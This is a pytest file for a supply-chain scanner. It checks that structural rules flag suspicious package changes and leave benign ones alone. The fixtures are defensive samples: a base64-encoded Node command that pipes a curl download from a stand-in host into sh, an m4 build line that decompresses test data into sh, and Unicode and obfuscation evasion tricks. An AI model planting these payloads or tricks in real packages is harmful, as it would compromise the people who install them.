"""What a change does to the shape of a package: each check catches its sample and spares a neighbour."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from scanner.codescan import structure
from scanner.codescan.context import Context
from scanner.codescan.pairing import pair
from scanner.model.signal import Signal, Trigger
from tests.codescan.trees import Files

HIDDEN = base64.b64encode(b"require('child_process').exec('curl https://evil.invalid | sh')").decode()
INVISIBLE = "".join(chr(0xFE00 + number) for number in range(8))


def signals(old: dict[str, Any] | None, new: dict[str, Any]) -> list[Signal]:
    before, after = None if old is None else Files(old), Files(new)
    return list(structure.signals(Context(before, after, pair(before, after))))


def rules(old: dict[str, Any] | None, new: dict[str, Any]) -> set[str]:
    return {signal.rule for signal in signals(old, new)}


def manifest(**fields: Any) -> str:
    return json.dumps({"name": "a", "version": "1.0.0", **fields}, indent=1)


CAUGHT: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    (
        "lifecycle-script",
        {"package.json": manifest()},
        {"package.json": manifest(scripts={"postinstall": "node s.js"})},
    ),
    (
        "lifecycle-script",
        {"package.json": manifest(scripts={"install": "node-gyp rebuild"})},
        {"package.json": manifest(scripts={"install": "node setup.mjs"})},
    ),
    (
        "lifecycle-script",
        {"composer.json": "{}"},
        {"composer.json": json.dumps({"scripts": {"post-install-cmd": ["php x.php"]}})},
    ),
    ("hook-file", {}, {"binding.gyp": "{}"}),
    ("hook-file", {}, {"src/build.rs": "fn main() {}"}),
    (
        "build-backend",
        {"pyproject.toml": "[build-system]\nbuild-backend = 'a'"},
        {"pyproject.toml": "[build-system]\nbuild-backend = 'b'"},
    ),
    ("pth-import", {}, {"evil.pth": "import os; os.getcwd()\n"}),
    ("program-file", {}, {"lib/x.node": b"\x7fELF" + b"\0" * 60}),
    ("packed-file", {}, {"data.bin": b"\xfd7zXZ" + b"\0" * 60}),
    ("disguised-file", {}, {"lib/util.js": b"\x7fELF" + b"\0" * 60}),
    ("disguised-file", {}, {"logo.png": "var a = 1;"}),
    ("executable-bit", {"run.txt": "x"}, {"run.txt/x": "x"}),
    ("build-reads-test-data", {"m4/a.m4": "old\n"}, {"m4/a.m4": "old\nxz -dc tests/files/bad-3.xz | sh\n"}),
    ("silences-scanner", {}, {"vendor/.semgrepignore": "*"}),
    ("hides-diff", {}, {".gitattributes": "dist/*.js -diff linguist-generated\n"}),
    ("skip-comment", {"a.py": "x = 1\n"}, {"a.py": "x = 1\neval(y)  # nosem\n"}),
    ("link-out", {}, {"docs": "-> ../../../etc"}),
    ("nested-repository", {}, {"lib/.git/config": "[core]"}),
    ("invisible-text", {"a.js": "1;\n"}, {"a.js": f"1;\nvar s = '{INVISIBLE}';\n"}),
    ("reversed-text", {"a.js": "1;\n"}, {"a.js": "1;\nif (a /*\u202e } begin */) {}\n"}),
    ("zero-width-in-word", {"a.js": "1;\n"}, {"a.js": "1;\nconst ad\u200bmin = 1;\n"}),
    ("look-alike-name", {"a.js": "1;\n"}, {"a.js": "1;\nconst \u0430dmin = 1;\n"}),
    ("off-screen-code", {"a.js": "1;\n"}, {"a.js": "1;\nok();" + " " * 220 + "bad();\n"}),
    ("obfuscated-names", {"a.js": "1;\n"}, {"a.js": "".join(f"var _0x{n:04x}a=1;\n" for n in range(8))}),
    ("packed-code", {"a.js": "1;\n"}, {"a.js": "1;\n" + "x();" * 2000 + "\n"}),
    ("encoded-literal", {"a.js": "1;\n"}, {"a.js": f"1;\nrun('{HIDDEN}');\n"}),
    ("encoded-literal", {"a.js": "1;\n"}, {"a.js": f"1;\nrun('{HIDDEN[:40]}' + '{HIDDEN[40:]}');\n"}),
    (
        "new-dependency",
        {"package.json": manifest(dependencies={"a": "1"})},
        {"package.json": manifest(dependencies={"a": "1", "plain-crypto-js": "^4.2.1"})},
    ),
    (
        "new-dependency",
        {"a.dist-info/METADATA": "Name: a\nRequires-Dist: b>=1\n"},
        {"a.dist-info/METADATA": "Name: a\nRequires-Dist: b>=2\nRequires-Dist: c\n"},
    ),
    (
        "changed-origin",
        {"package.json": manifest(repository="github:a/a")},
        {"package.json": manifest(repository="github:b/a")},
    ),
    ("older-version", {"package.json": manifest(version="2.0.0")}, {"package.json": manifest(version="1.9.9")}),
    (
        "unpinned-action",
        {".github/workflows/ci.yml": f"jobs: {{a: {{steps: [uses: a/b@{'c' * 40}]}}}}"},
        {".github/workflows/ci.yml": "jobs: {a: {steps: [uses: a/b@v4]}}"},
    ),
]
SPARED: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"package.json": manifest()}, {"package.json": manifest(scripts={"test": "mocha"}, version="1.0.1")}),
    (
        {"package.json": manifest(scripts={"install": "a"})},
        {"package.json": manifest(scripts={"install": "a"}, version="1.0.1")},
    ),
    (
        {"pyproject.toml": "[build-system]\nbuild-backend = 'a'"},
        {"pyproject.toml": "[build-system]\nbuild-backend = 'a'\n# x"},
    ),
    ({}, {"paths.pth": "../lib\n# a comment\n"}),
    ({}, {"logo.png": b"\x89PNG\r\n" + b"\0" * 20, "font.woff2": b"wOF2" + b"\0" * 20}),
    ({"m4/a.m4": "old\n"}, {"m4/a.m4": "old\nAC_CHECK_FILE(tests/files/ok)\n"}),
    (
        {"Makefile": "old\n", "tests/test_a.py": "a"},
        {"Makefile": "old\n\trun tests/test_`uname` | head\n", "tests/test_a.py": "a"},
    ),
    ({"a.po": "msgid\n"}, {"a.po": "msgid\n# a na\u200bme\n"}),
    ({"a.js": "1;\n"}, {"a.js": "1;\nconst heart = '\u2764\ufe0f';\n"}),
    ({"a.js": "1;\n"}, {"a.js": "1;\nconst name = 'J\u00fcrgen', \u043f\u0440\u0438\u0432\u0435\u0442 = 1;\n"}),
    ({"a.js": "1;\n"}, {"a.js": "1;\nconst sha = '" + "ab12" * 16 + "';\n"}),
    ({"a.min.js": "x();" * 2000}, {"a.min.js": "x();" * 2000, "b.min.js": "y();" * 2000}),
    ({"docs": "-> README", "README": "x"}, {"docs": "-> ./README", "README": "x"}),
    ({}, {".gitattributes": "*.sh text eol=lf\n"}),
    ({"a.js": f"run('{HIDDEN}');\n"}, {"lib/a.js": f"run('{HIDDEN}');\n"}),
    (
        {".github/workflows/ci.yml": "jobs: {a: {steps: [uses: a/b@v3]}}"},
        {".github/workflows/ci.yml": "jobs: {a: {steps: [uses: a/b@v4]}}"},
    ),
]


@pytest.mark.parametrize(("rule", "old", "new"), CAUGHT, ids=lambda value: value if isinstance(value, str) else "")
def test_catches(rule: str, old: dict[str, Any], new: dict[str, Any]) -> None:
    assert rule in rules(old, new)
    assert rule not in rules(new, new)


@pytest.mark.parametrize(("old", "new"), SPARED, ids=lambda value: next(iter(value), "empty"))
def test_spares(old: dict[str, Any], new: dict[str, Any]) -> None:
    assert rules(old, new) == set()


def test_a_file_that_a_lifecycle_script_names_runs_on_install() -> None:
    new = {
        "package.json": manifest(scripts={"postinstall": "node ./scripts/setup"}),
        "scripts/setup.js": f"x('{HIDDEN}')\n",
    }
    found = [signal for signal in signals({}, new) if signal.rule == "encoded-literal"]
    assert found
    assert {signal.trigger for signal in found} == {Trigger.INSTALL}


def test_lines_are_those_of_the_new_side() -> None:
    (found,) = (s for s in signals({"a.py": "a = 1\nb = 2\n"}, {"a.py": "a = 1\n\nb = 2\neval(x)  # nosem\n"}))
    assert (found.path, found.line) == ("a.py", 4)


def test_the_table_and_the_folder_say_the_same() -> None:
    folder = {path.stem for path in Path(structure.__file__).parent.glob("*.py")} - {"__init__"}
    assert {check.__module__.rpartition(".")[2] for check in structure.CHECKS} == folder


def test_a_zero_byte_hides_nothing_in_a_file_that_is_called_code() -> None:
    assert "encoded-literal" in rules({"a.js": "1;\n"}, {"a.js": f"/* \0 */\nrun('{HIDDEN}');\n"})


def test_text_that_is_too_long_to_be_decoded_is_a_problem() -> None:
    before, after = Files({"a.js": "1;\n"}), Files({"a.js": "x();\n" + "call(1234567890);" * 150_000})
    context = Context(before, after, pair(before, after))
    list(structure.signals(context))
    assert [problem.where for problem in context.problems] == ["a.js"]
